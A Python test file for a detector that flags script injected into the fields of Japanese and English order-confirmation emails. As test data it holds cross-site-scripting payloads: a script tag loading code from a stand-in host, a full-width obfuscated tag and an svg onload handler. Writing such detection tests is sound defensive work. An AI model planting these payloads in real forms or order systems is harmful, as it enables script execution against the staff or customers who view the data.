"""Mails about orders, and the script in their fields."""

from sekisho.model.artifact import Analysis, Artifact, Feature
from sekisho.model.organisation import NOBODY
from sekisho.normalize.mail import Mail
from sekisho.normalize.mail.orders import facts

ORDER = """佐藤 花子 様

この度はご注文いただき誠にありがとうございます。

************************************************
　ご注文商品明細
************************************************
ご注文日時：2021/04/01 10:00:00
ご注文番号：12
お支払い合計：￥ 3,300

お名前　：佐藤 花子 様
会社名　：(株)青空 <本社>
郵便番号：〒100-0001
住所　　：東京都千代田区1-2-3 {address}
電話番号：0312345678
"""


def told(text, subject="ご注文ありがとうございます", bodies=()):
    features = (Feature("subject", subject), Feature("body.text", text))
    message = Analysis(Artifact("a.eml", b"", "a.eml"), "", 0, "message/rfc822", ("eml",), features)
    found = {}
    for one in facts(Mail(message, tuple(bodies), ()), NOBODY):
        found.setdefault(one.name, []).append(one.value)
    return found


def test_an_ordinary_order_is_one_and_clean():
    assert told(ORDER.format(address="＜新館＞ 5F & A<B")) == {"order.mail": [True]}


def test_script_in_the_address():
    found = told(ORDER.format(address='"><script src=//cdn.loader.example/x></script>'))
    assert found["order.script"] == ["script"]
    assert found["order.script_field"] == ["住所"]
    assert found["order.script_host"] == ["cdn.loader.example"]
    assert "order.script_layers" not in found


def test_hidden_script_on_the_line_below():
    found = told(ORDER.format(address="\n　　　　　＜ｓｃｒｉｐｔ　ｓｒｃ＝／／ａ．ｅｘａｍｐｌｅ＞"))
    assert found["order.script_field"] == ["住所"]
    assert found["order.script_layers"] == ["full-width"]


def test_an_english_order():
    text = "Order number: 1001\nName: Ann\nCompany: A <svg/onload=f()>\nAddress: 1 High St\n"
    assert told(text)["order.script_field"] == ["company"]


def test_a_page_that_runs_script_itself():
    body = Analysis(Artifact("b", b"", "b"), "", 0, "text/html", ("html",), (Feature("html.script", True),))
    assert told(ORDER.format(address=""), bodies=[body])["order.script_field"] == ["html"]


def test_other_mails_are_not_looked_at():
    assert told("Put <script>alert(1)</script> into your page.\nName: Ann\n") == {}
    assert told("") == {}
    assert told("Order number: 1\n" + "x" * 100_000) == {}
